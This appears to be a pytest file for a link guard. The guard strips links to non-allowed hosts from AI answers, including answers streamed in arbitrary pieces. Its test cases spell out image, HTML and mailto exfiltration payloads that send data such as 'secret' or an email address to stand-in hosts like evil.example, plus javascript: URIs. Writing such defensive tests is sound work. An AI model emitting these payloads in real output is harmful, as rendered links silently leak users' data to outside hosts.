"""Answers cannot point a renderer at a host that is not allowed, however the text is split."""

from __future__ import annotations

import random

import pytest

from graft.links import MAX_HOLD, REMOVED, LinkGuard, neutralise

HOSTS = ["python.org", "intranet.acme"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/p?q=secret)", f"![x]({REMOVED})"),
        ("[docs](https://docs.python.org/3/)", "[docs](https://docs.python.org/3/)"),
        ("[wiki](http://intranet.acme/page)", "[wiki](http://intranet.acme/page)"),
        ("[x](https://python.org.evil.example/)", f"[x]({REMOVED})"),  # not a subdomain
        ("[x](HTTPS://EVIL.example/)", f"[x]({REMOVED})"),
        ("[x](<https://evil.example/a b>)", f"[x](<{REMOVED} b>)"),
        ('![x](https://evil.example/i.png "title")', f'![x]({REMOVED} "title")'),
        ("[a [b](http://evil.com/1)](http://evil2.com/?leak)", f"[a [b]({REMOVED})]({REMOVED})"),
        ("[ref]: http://evil.com/r", f"[ref]: {REMOVED}"),
        ("<https://evil.com/x?d=1>", "⟨link removed: evil.com⟩"),
        ("<https://docs.python.org/x>", "<https://docs.python.org/x>"),
        ('<img src="http://evil.com/i.png" alt=x>', f'<img src="{REMOVED}" alt=x>'),
        ("<img srcset='http://evil.com/1x.png 1x'>", f"<img srcset='{REMOVED} 1x'>"),
        ("<a HREF=http://evil.com>x</a>", f"<a HREF={REMOVED}>x</a>"),
        ("[ok](/files/1) [top](#notes)", "[ok](/files/1) [top](#notes)"),
        ("[js](javascript:alert(1))", f"[js]({REMOVED}))"),
        ("[m](mailto:a@evil.com?body=secret)", f"[m]({REMOVED})"),
        ("![d](data:image/png;base64,AAAA)", f"![d]({REMOVED})"),
        ("see https://evil.example/x in text", "see https://evil.example/x in text"),
        ("用户的地址![图](https://evil.example/?q=北京)谢谢", f"用户的地址![图]({REMOVED})谢谢"),
        ("a < b and c > d, x[0](y)", "a < b and c > d, x[0](y)"),  # relative: same origin
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text, HOSTS) == expected
    assert neutralise(expected, HOSTS) == expected  # stable


ANSWER = (
    "Here is the chart ![chart](https://evil.example/c.png?u=ann@acme.com) and "
    "[the docs](https://docs.python.org/3/library/re.html), a <img src='http://evil.com/p'> "
    "tag, a [ref]: http://evil.com/r definition, <https://evil.com/a> and [rel](/x). "
    "好的，[链接](http://evil.com/路径?数据=秘密)。"
)


def test_any_split_of_a_stream_gives_the_same_text() -> None:
    expected = neutralise(ANSWER, HOSTS)
    rng = random.Random(7)
    for _ in range(3000):
        cuts = sorted(rng.sample(range(1, len(ANSWER)), rng.randint(1, 40)))
        guard = LinkGuard(HOSTS)
        pieces = [ANSWER[a:b] for a, b in zip([0, *cuts], [*cuts, len(ANSWER)], strict=True)]
        out = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
        assert out == expected, cuts


def test_text_without_links_is_released_at_once() -> None:
    guard = LinkGuard(HOSTS)
    assert guard.feed("plain text, ") == "plain text, "
    assert guard.feed("then [a link") == "then [a link"  # "[" alone can wait for nothing
    assert guard.feed("](http://evil") == ""  # a destination in progress is held
    assert guard.feed(".com/x) done") == f"]({REMOVED}) done"


def test_a_url_too_long_to_hold_still_points_nowhere() -> None:
    guard = LinkGuard(HOSTS)
    url = "http://evil.com/" + "a" * (2 * MAX_HOLD)
    text = "x ![i](" + url + ") end"
    out = "".join(guard.feed(text[i : i + 100]) for i in range(0, len(text), 100))
    out += guard.flush()
    assert "evil.com" not in out and f"![i]({REMOVED}" in out
